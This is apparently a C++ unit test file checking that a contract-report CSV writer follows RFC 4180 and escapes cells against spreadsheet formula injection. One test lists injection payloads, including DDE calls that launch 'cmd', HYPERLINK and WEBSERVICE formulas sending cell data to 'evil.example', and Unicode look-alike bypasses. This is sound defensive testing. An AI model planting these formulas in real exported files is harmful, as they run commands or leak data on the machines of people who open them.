// CSV: RFC 4180 read back by a reader of its own, and no cell that a spreadsheet could run.
#include <boost/test/unit_test.hpp>

#include "report/report.h"
#include "report/sheet_rows.h"
#include "surfaces.h"

using namespace caveat;
using tests::SampleContract;

namespace {

using Table = std::vector<std::vector<std::string>>;

// RFC 4180, strictly: CRLF, no stray quote, no stray line break.
Table parse(std::string_view csv, char separator = ',') {
  Table table(1);
  std::string field;
  std::size_t i = 0;
  while (i < csv.size()) {
    if (csv[i] == '"') {
      for (++i;; ++i) {
        BOOST_REQUIRE(i < csv.size());
        if (csv[i] == '"') {
          if (i + 1 >= csv.size() || csv[i + 1] != '"') break;
          ++i;
        }
        field += csv[i];
      }
      ++i;
      BOOST_REQUIRE(i < csv.size());
      BOOST_REQUIRE(csv[i] == separator || csv[i] == '\r');
    } else {
      while (i < csv.size() && csv[i] != separator && csv[i] != '\r') {
        BOOST_REQUIRE(csv[i] != '"');
        BOOST_REQUIRE(csv[i] != '\n');
        field += csv[i++];
      }
    }
    table.back().push_back(std::move(field));
    field.clear();
    BOOST_REQUIRE(i < csv.size());
    if (csv[i] == '\r') {
      BOOST_REQUIRE(csv.substr(i, 2) == "\r\n");
      i += 2;
      table.emplace_back();
    } else {
      ++i;
    }
  }
  BOOST_REQUIRE(table.back().empty());
  table.pop_back();
  return table;
}

std::string written(SampleContract c, const report::CsvOptions& options = {}) {
  const auto csv = report::csv(options);
  std::string out = csv->add(c.input()).value();
  return out + csv->finish().value();
}

// The cells of the one column.
std::vector<std::string> column(const Table& table, std::string_view head) {
  std::size_t at = 0;
  while (table.at(0).at(at) != head) ++at;
  std::vector<std::string> cells;
  for (std::size_t row = 1; row < table.size(); ++row) cells.push_back(table[row].at(at));
  return cells;
}

// Is the text between this separator and the next seen as it is by every one who splits the file his way?
bool runs(std::string_view cell) { return !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos; }

}  // namespace

BOOST_AUTO_TEST_CASE(every_row_has_every_column) {
  SampleContract c = tests::surface_contract();
  const std::string csv = written(c);
  BOOST_TEST(csv.starts_with("\xEF\xBB\xBF" "Document,No.,Priority,Severity,Status,Point,Finding,Clause,Page,Quote,"));
  const Table table = parse(csv.substr(3));
  const auto rows = report::finding_rows(c.input(), Language::en);
  BOOST_REQUIRE(table.size() == rows.size() + 1);
  for (const auto& row : table) BOOST_TEST(row.size() == table[0].size());
  for (std::size_t r = 0; r < rows.size(); ++r)
    for (std::size_t f = 0; f < rows[r].size(); ++f)
      BOOST_TEST(table[r + 1][f] == (rows[r][f].number ? std::to_string(static_cast<int>(*rows[r][f].number)) : rows[r][f].text));
}

BOOST_AUTO_TEST_CASE(heads_can_be_ids_for_programs) {
  const std::string csv = written(tests::surface_contract(), {.reader = Language::de, .ids = true});
  BOOST_TEST(csv.starts_with("document,number,priority,severity,status,title,message,"));  // and no byte order mark
  BOOST_TEST(column(parse(csv), "priority")[0] == "Muss");
}

BOOST_AUTO_TEST_CASE(a_separator_inside_a_cell_does_not_part_it) {
  SampleContract c = tests::surface_contract();
  c.name_ = "a, \"b\"; c\td.pdf";
  for (const char separator : {',', ';', '\t'}) {
    const Table table = parse(written(c, {.separator = separator}).substr(3), separator);
    for (const std::string& name : column(table, "Document")) BOOST_TEST(name == "a, \"b\"; c d.pdf");
  }
}

BOOST_AUTO_TEST_CASE(no_text_of_a_contract_is_a_formula) {
  const std::vector<std::string> payloads = {
      "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|'/C calc'!A0",
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")",
      "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xC2\xA0=1+1", "\xE2\x80\x8B=1+1", "\xEF\xBB\xBF=1+1", "\"=1+1", "'=1+1", "\xE2\x80\x9C=1+1", "\xC2\xAB\xC2\xA0=1+1",
      "\xEF\xBC\x9D" "1+1", "\xEF\xBC\x8B" "1", "\xEF\xBC\x8D" "1", "\xEF\xBC\xA0" "SUM(A1)", "\xEF\xB9\xA6" "1", "\xE2\x88\x92" "1", "\"\"=1"};
  for (const std::string& payload : payloads) {
    SampleContract c = tests::surface_contract();
    c.name_ = payload;                                            // of a file
    c.add(payload + " tail").finding("level", payload + " tail", "tail", payload);  // the contract's words, its clause number
    c.list_.findings[2].waiver->reason = payload;                 // of a waiver file
    for (const char separator : {',', ';', '\t'}) {
      const Table table = parse(written(c, {.separator = separator}).substr(3), separator);
      for (const std::string& cell : column(table, "Document")) BOOST_TEST(cell.starts_with('\''), payload << " -> " << cell);
      std::size_t quoted = 0;
      for (const std::string& cell : column(table, "Quote")) quoted += cell.find("tail") != std::string::npos && cell.starts_with('\'');
      BOOST_TEST(quoted == 1u, payload);
      for (const auto& row : table)
        for (const std::string& cell : row) BOOST_TEST(!runs(cell), payload << " -> " << cell);
    }
  }
}

BOOST_AUTO_TEST_CASE(a_file_split_at_other_separators_holds_no_formula_either) {
  const std::string words = "Fees; =1+1, due;\"@SUM(1)\",+2, -3; \xEF\xBC\x9D" "4 tail";
  for (const char own : {',', ';', '\t'})
    for (const char other : {',', ';', '\t'}) {
      if (own == other) continue;
      SampleContract c = tests::surface_contract();
      c.name_ = "a;=1+1,=2+2";
      c.add(words).finding("level", words, "tail");
      const std::string csv = written(c, {.separator = own}).substr(3);
      for (std::size_t at = 0; at != std::string::npos; at = csv.find_first_of(std::string("\n") + other, at)) {
        const std::size_t begin = csv.find_first_not_of(" \"", at + (at > 0));
        at = begin;
        if (begin != std::string::npos) BOOST_TEST(!runs(csv.substr(begin)), csv.substr(begin, 20));
      }
    }
}

BOOST_AUTO_TEST_CASE(ordinary_text_is_left_alone) {
  SampleContract c = tests::surface_contract();
  for (const char* name : {"a=b.pdf", "e-mail@example.com", "\"quoted\".pdf", "1+1", "(=)", "\xC2\xA7 4"}) {
    c.name_ = name;
    BOOST_TEST(column(parse(written(c).substr(3)), "Document")[0] == name);
  }
}

BOOST_AUTO_TEST_CASE(rows_come_as_soon_as_a_document_is_known) {
  SampleContract a = tests::surface_contract(), b = tests::surface_contract();
  b.name_ = "other.pdf";
  const auto csv = report::csv({});
  const std::string first = csv->add(a.input()).value(), second = csv->add(b.input()).value();
  BOOST_TEST(csv->finish().value() == "");
  BOOST_TEST(first == written(a));
  BOOST_TEST(second.starts_with("other.pdf,1,"));
  BOOST_TEST(parse((first + second).substr(3)).size() == 2 * parse(first.substr(3)).size() - 1);
  // Of nothing: the heads.
  BOOST_TEST(parse(report::csv({})->finish().value().substr(3)).size() == 1u);
}
